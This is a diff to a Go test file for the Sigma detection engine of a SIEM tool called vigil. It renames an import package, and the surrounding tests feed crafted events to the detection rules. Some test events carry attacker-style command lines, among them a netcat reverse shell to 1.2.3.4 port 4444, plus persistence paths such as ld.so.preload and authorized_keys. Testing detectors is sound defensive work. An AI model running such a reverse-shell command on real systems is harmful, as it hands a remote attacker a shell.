@@ -9,7 +9,7 @@ import (
 	"testing"
 	"time"
 
-	"github.com/vigilsec/vigil/plugins/siem/local/event"
+	"github.com/vigilsec/vigil/core/telemetry"
 )
 
 const sigmaHQDir = "../../../../rules/sigma/sigmahq"
@@ -40,7 +40,7 @@ func ids(ms []Match) []string {
 }
 
 // plainBySource evaluates every rule of the event's logsource with sigma-go.
-func plainBySource(bySrc map[event.Logsource][]*Rule, ev *event.Event) []string {
+func plainBySource(bySrc map[telemetry.Logsource][]*Rule, ev *telemetry.Event) []string {
 	var out []string
 	for _, r := range bySrc[ev.Source] {
 		if ok, _ := r.evaluate(ev); ok {
@@ -51,7 +51,7 @@ func plainBySource(bySrc map[event.Logsource][]*Rule, ev *event.Event) []string 
 }
 
 // plainAll evaluates every rule (Rule.Matches checks the logsource).
-func plainAll(rules []*Rule, ev *event.Event) []string {
+func plainAll(rules []*Rule, ev *telemetry.Event) []string {
 	var out []string
 	for _, r := range rules {
 		if r.Matches(ev) {
@@ -61,20 +61,20 @@ func plainAll(rules []*Rule, ev *event.Event) []string {
 	return out
 }
 
-func bySource(rules []*Rule) map[event.Logsource][]*Rule {
-	m := map[event.Logsource][]*Rule{}
+func bySource(rules []*Rule) map[telemetry.Logsource][]*Rule {
+	m := map[telemetry.Logsource][]*Rule{}
 	for _, r := range rules {
 		m[r.Logsource] = append(m[r.Logsource], r)
 	}
 	return m
 }
 
-func ev(src event.Logsource, kv ...any) *event.Event {
+func ev(src telemetry.Logsource, kv ...any) *telemetry.Event {
 	f := map[string]any{}
 	for i := 0; i+1 < len(kv); i += 2 {
 		f[kv[i].(string)] = kv[i+1]
 	}
-	return &event.Event{Time: time.Unix(0, 0).UTC(), Host: "test", Source: src, Fields: f}
+	return &telemetry.Event{Time: time.Unix(0, 0).UTC(), Host: "test", Source: src, Fields: f}
 }
 
 func ruleByTitle(rules []*Rule, title string) *Rule {
@@ -95,65 +95,65 @@ func TestEngineCraftedEvents(t *testing.T) {
 	src := bySource(rules)
 	tests := []struct {
 		name    string
-		ev      *event.Event
+		ev      *telemetry.Event
 		want    []string // titles that must match
 		notWant []string // titles that must not match
 	}{
-		{"execve base64 -d", ev(event.Auditd, "type", "EXECVE", "argc", "3", "a0", "base64", "a1", "-d", "a2", "/tmp/.x"),
+		{"execve base64 -d", ev(telemetry.Auditd, "type", "EXECVE", "argc", "3", "a0", "base64", "a1", "-d", "a2", "/tmp/.x"),
 			[]string{"Decode Base64 Encoded Text (test)"}, nil},
-		{"execve base64 upper-case values", ev(event.Auditd, "type", "execve", "a0", "BASE64", "a1", "-D"),
+		{"execve base64 upper-case values", ev(telemetry.Auditd, "type", "execve", "a0", "BASE64", "a1", "-D"),
 			[]string{"Decode Base64 Encoded Text (test)"}, nil},
-		{"execve base64 encode is benign", ev(event.Auditd, "type", "EXECVE", "a0", "base64", "a1", "/tmp/x"),
+		{"execve base64 encode is benign", ev(telemetry.Auditd, "type", "EXECVE", "a0", "base64", "a1", "/tmp/x"),
 			nil, []string{"Decode Base64 Encoded Text (test)"}},
-		{"path ld.so.preload", ev(event.Auditd, "type", "PATH", "name", "/etc/ld.so.preload", "nametype", "NORMAL"),
+		{"path ld.so.preload", ev(telemetry.Auditd, "type", "PATH", "name", "/etc/ld.so.preload", "nametype", "NORMAL"),
 			[]string{"Modification of ld.so.preload (test)"}, nil},
-		{"process_creation crontab -l", ev(event.ProcessCreation, "Image", "/usr/bin/crontab", "CommandLine", "/usr/bin/crontab -l", "User", "root"),
+		{"process_creation crontab -l", ev(telemetry.ProcessCreation, "Image", "/usr/bin/crontab", "CommandLine", "/usr/bin/crontab -l", "User", "root"),
 			[]string{"Crontab Enumeration"}, []string{"Anything But Root (test)"}},
-		{"process_creation crontab list as []string", ev(event.ProcessCreation, "Image", []string{"/bin/busybox", "/usr/bin/crontab"}, "CommandLine", "crontab -l", "User", "root"),
+		{"process_creation crontab list as []string", ev(telemetry.ProcessCreation, "Image", []string{"/bin/busybox", "/usr/bin/crontab"}, "CommandLine", "crontab -l", "User", "root"),
 			[]string{"Crontab Enumeration"}, nil},
-		{"getcap -r /", ev(event.Auditd, "type", "EXECVE", "a0", "getcap", "a1", "-r", "a2", "/"),
+		{"getcap -r /", ev(telemetry.Auditd, "type", "EXECVE", "a0", "getcap", "a1", "-r", "a2", "/"),
 			[]string{"Linux Capabilities Discovery"}, nil},
-		{"shell profile wildcard", ev(event.Auditd, "type", "PATH", "name", "/home/bob/.bashrc"),
+		{"shell profile wildcard", ev(telemetry.Auditd, "type", "PATH", "name", "/home/bob/.bashrc"),
 			[]string{"Unix Shell Configuration Modification"}, nil},
-		{"shell profile wildcard no match", ev(event.Auditd, "type", "PATH", "name", "/home/bob/.bashrc.bak"),
+		{"shell profile wildcard no match", ev(telemetry.Auditd, "type", "PATH", "name", "/home/bob/.bashrc.bak"),
 			nil, []string{"Unix Shell Configuration Modification"}},
-		{"cron file created", ev(event.FileEvent, "TargetFilename", "/etc/cron.d/evil", "Image", "/usr/bin/cp"),
+		{"cron file created", ev(telemetry.FileEvent, "TargetFilename", "/etc/cron.d/evil", "Image", "/usr/bin/cp"),
 			[]string{"New Cron File Created"}, nil},
-		{"wildcard ? and escaped *", ev(event.FileEvent, "TargetFilename", "/etc/literal*star", "Image", "/usr/bin/touch"),
+		{"wildcard ? and escaped *", ev(telemetry.FileEvent, "TargetFilename", "/etc/literal*star", "Image", "/usr/bin/touch"),
 			[]string{"Wildcards (test)"}, nil},
-		{"escaped * is literal", ev(event.FileEvent, "TargetFilename", "/etc/literalXstar", "Image", "/usr/bin/touch"),
+		{"escaped * is literal", ev(telemetry.FileEvent, "TargetFilename", "/etc/literalXstar", "Image", "/usr/bin/touch"),
 			nil, []string{"Wildcards (test)"}},
-		{"wildcard authorized_keys", ev(event.FileEvent, "TargetFilename", "/HOME/alice/.ssh/AUTHORIZED_KEYS", "Image", "/usr/bin/vi"),
+		{"wildcard authorized_keys", ev(telemetry.FileEvent, "TargetFilename", "/HOME/alice/.ssh/AUTHORIZED_KEYS", "Image", "/usr/bin/vi"),
 			[]string{"Wildcards (test)"}, nil},
-		{"not at top matches non-root", ev(event.ProcessCreation, "Image", "/usr/bin/ls", "CommandLine", "ls", "User", "alice"),
+		{"not at top matches non-root", ev(telemetry.ProcessCreation, "Image", "/usr/bin/ls", "CommandLine", "ls", "User", "alice"),
 			[]string{"Anything But Root (test)"}, nil},
-		{"not at top, missing field", ev(event.ProcessCreation, "Image", "/usr/bin/ls"),
+		{"not at top, missing field", ev(telemetry.ProcessCreation, "Image", "/usr/bin/ls"),
 			[]string{"Anything But Root (test)"}, nil},
-		{"contains all", ev(event.ProcessCreation, "Image", "/usr/bin/python3", "CommandLine", "python3 -c 'import socket,subprocess'", "User", "root"),
+		{"contains all", ev(telemetry.ProcessCreation, "Image", "/usr/bin/python3", "CommandLine", "python3 -c 'import socket,subprocess'", "User", "root"),
 			[]string{"One Of Them (test)"}, nil},
-		{"contains all incomplete", ev(event.ProcessCreation, "Image", "/usr/bin/python3", "CommandLine", "python3 -c 'import socket'", "User", "root"),
+		{"contains all incomplete", ev(telemetry.ProcessCreation, "Image", "/usr/bin/python3", "CommandLine", "python3 -c 'import socket'", "User", "root"),
 			nil, []string{"One Of Them (test)"}},
-		{"all of them", ev(event.ProcessCreation, "Image", "/usr/bin/curl", "CommandLine", "curl http://x", "User", "root"),
+		{"all of them", ev(telemetry.ProcessCreation, "Image", "/usr/bin/curl", "CommandLine", "curl http://x", "User", "root"),
 			[]string{"All Of Them (test)"}, nil},
-		{"regex only", ev(event.ProcessCreation, "Image", "/usr/bin/nc", "CommandLine", "nc -e /bin/sh 1.2.3.4 4444", "User", "root"),
+		{"regex only", ev(telemetry.ProcessCreation, "Image", "/usr/bin/nc", "CommandLine", "nc -e /bin/sh 1.2.3.4 4444", "User", "root"),
 			[]string{"Regex Only (test)", "One Of Them (test)"}, nil},
-		{"numbers and not", ev(event.Auditd, "type", "SYSCALL", "euid", "0", "auid", "4294967295", "exe", "/usr/bin/python3"),
+		{"numbers and not", ev(telemetry.Auditd, "type", "SYSCALL", "euid", "0", "auid", "4294967295", "exe", "/usr/bin/python3"),
 			[]string{"Numbers And Not (test)"}, nil},
-		{"numbers and not, filtered", ev(event.Auditd, "type", "SYSCALL", "euid", "0", "auid", "4294967295", "exe", "/usr/lib/systemd/systemd"),
+		{"numbers and not, filtered", ev(telemetry.Auditd, "type", "SYSCALL", "euid", "0", "auid", "4294967295", "exe", "/usr/lib/systemd/systemd"),
 			nil, []string{"Numbers And Not (test)"}},
-		{"base64 modifier", ev(event.ProcessCreation, "CommandLine", "echo Y3VybA== | base64 -d", "User", "root"),
+		{"base64 modifier", ev(telemetry.ProcessCreation, "CommandLine", "echo Y3VybA== | base64 -d", "User", "root"),
 			[]string{"Base64 And Cidr (test)"}, nil},
-		{"missing field compares as <nil>", ev(event.ProcessCreation, "Image", "/usr/bin/true", "User", "root"),
+		{"missing field compares as <nil>", ev(telemetry.ProcessCreation, "Image", "/usr/bin/true", "User", "root"),
 			[]string{"Base64 And Cidr (test)"}, nil},
-		{"empty value", ev(event.Auditd, "type", "CWD", "cwd", ""),
+		{"empty value", ev(telemetry.Auditd, "type", "CWD", "cwd", ""),
 			[]string{"Empty And Case (test)"}, nil},
-		{"case-insensitive exact", ev(event.Auditd, "type", "SYSCALL", "comm", "kworker"),
+		{"case-insensitive exact", ev(telemetry.Auditd, "type", "SYSCALL", "comm", "kworker"),
 			[]string{"Empty And Case (test)"}, nil},
-		{"unicode contains", ev(event.Auditd, "type", "SYSCALL", "exe", "/opt/STRASSE/straße/bin"),
+		{"unicode contains", ev(telemetry.Auditd, "type", "SYSCALL", "exe", "/opt/STRASSE/straße/bin"),
 			[]string{"Empty And Case (test)"}, nil},
-		{"unicode fold", ev(event.Auditd, "type", "SYSCALL", "exe", "/opt/Ḱ"),
+		{"unicode fold", ev(telemetry.Auditd, "type", "SYSCALL", "exe", "/opt/Ḱ"),
 			[]string{"Empty And Case (test)"}, nil},
-		{"unknown logsource", ev(event.Logsource{Product: "linux", Category: "network_connection"}, "Image", "/usr/bin/nc"),
+		{"unknown logsource", ev(telemetry.Logsource{Product: "linux", Category: "network_connection"}, "Image", "/usr/bin/nc"),
 			nil, nil},
 	}
 	for _, tt := range tests {
@@ -235,7 +235,7 @@ func TestEngineEquivalenceSynthetic(t *testing.T) {
 	rnd := rand.New(rand.NewPCG(1, 2))
 
 	// Per logsource: field -> values seen in rules.
-	vals := map[event.Logsource]map[string][]string{}
+	vals := map[telemetry.Logsource]map[string][]string{}
 	for _, r := range rules {
 		m := vals[r.Logsource]
 		if m == nil {
@@ -276,7 +276,7 @@ func TestEngineEquivalenceSynthetic(t *testing.T) {
 		return s
 	}
 	// The logsources some rule has values for.
-	var sources []event.Logsource
+	var sources []telemetry.Logsource
 	for _, ls := range SupportedLogsources {
 		if len(vals[ls]) > 0 {
 			sources = append(sources, ls)
@@ -304,7 +304,7 @@ func TestEngineEquivalenceSynthetic(t *testing.T) {
 				evf[f] = pick()
 			}
 		}
-		ev := &event.Event{Source: ls, Fields: evf}
+		ev := &telemetry.Event{Source: ls, Fields: evf}
 		got := ids(e.Match(ev))
 		if want := plainBySource(src, ev); !slices.Equal(got, want) {
 			t.Fatalf("event %v: indexed %v != plain %v", evf, got, want)
@@ -324,7 +324,7 @@ func TestEngineEquivalenceSynthetic(t *testing.T) {
 func TestEngineUnmodelledValueType(t *testing.T) {
 	rules := loadAll(t)
 	e := NewEngine(rules)
-	evt := ev(event.ProcessCreation, "Image", "/usr/bin/crontab", "CommandLine", "crontab -l", "User", 0)
+	evt := ev(telemetry.ProcessCreation, "Image", "/usr/bin/crontab", "CommandLine", "crontab -l", "User", 0)
 	if got, want := ids(e.Match(evt)), plainAll(rules, evt); !slices.Equal(got, want) {
 		t.Errorf("indexed %v != plain %v", got, want)
 	}
@@ -361,7 +361,7 @@ func TestMatchNoAllocs(t *testing.T) {
 		t.Fatal(err)
 	}
 	e := NewEngine(rs.Rules)
-	evt := ev(event.Auditd, "type", "CWD", "cwd", "/var/www")
+	evt := ev(telemetry.Auditd, "type", "CWD", "cwd", "/var/www")
 	var dst []Match
 	allocs := testing.AllocsPerRun(100, func() { dst = e.AppendMatches(dst[:0], evt) })
 	if allocs > 0 {
